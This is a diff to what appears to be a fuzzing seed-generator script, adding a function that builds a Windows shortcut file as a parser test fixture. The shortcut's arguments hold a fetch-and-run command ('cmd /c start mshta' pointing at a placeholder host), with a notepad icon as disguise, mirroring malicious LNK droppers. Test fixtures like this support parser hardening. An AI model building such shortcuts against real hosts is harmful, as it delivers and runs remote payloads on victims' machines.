@@ -26,6 +26,24 @@ def _write_variants(out, parser, name, data):
     return len(variants)
 
 
+def _lnk_bytes():
+    """A Windows shortcut (MS-SHLLINK) with Unicode StringData: a relative path, working
+    directory, arguments and icon, and an environment-variable block holding the target."""
+    import struct
+    flags = 0x08 | 0x10 | 0x20 | 0x40 | 0x80 | 0x200  # rel path, workdir, args, icon, unicode, env
+    hdr = struct.pack("<I16sIIIQQQIIIHHII", 0x4C,
+                      bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20, 0, 0, 0, 0,
+                      0, 0, 7, 0, 0, 0, 0)[:0x4C]
+    def sd(text):
+        return struct.pack("<H", len(text)) + text.encode("utf-16-le")
+    body = (sd(r"..\Windows\System32\cmd.exe") + sd(r"C:\Users\Public") +
+            sd("/c start mshta http://example.invalid/a.hta") + sd(r"C:\Windows\notepad.exe"))
+    target = r"%windir%\System32\cmd.exe"
+    env = struct.pack("<II", 0x314, 0xA0000001) + target.encode("ascii").ljust(260, b"\0") + \
+        target.encode("utf-16-le").ljust(520, b"\0")
+    return hdr + body + env + b"\0\0\0\0"
+
+
 def main(out):
     written = {}
     for fmt in fixtures.FORMATS:
@@ -72,6 +90,7 @@ def main(out):
             with open(elf, "rb") as f:
                 written["analyze"] += _write_variants(out, "analyze", "elf", f.read())
             break
+    written["lnk"] = _write_variants(out, "lnk", "shortcut", _lnk_bytes())
     for k in sorted(written):
         print("seeds: %-10s %d" % (k, written[k]))
 
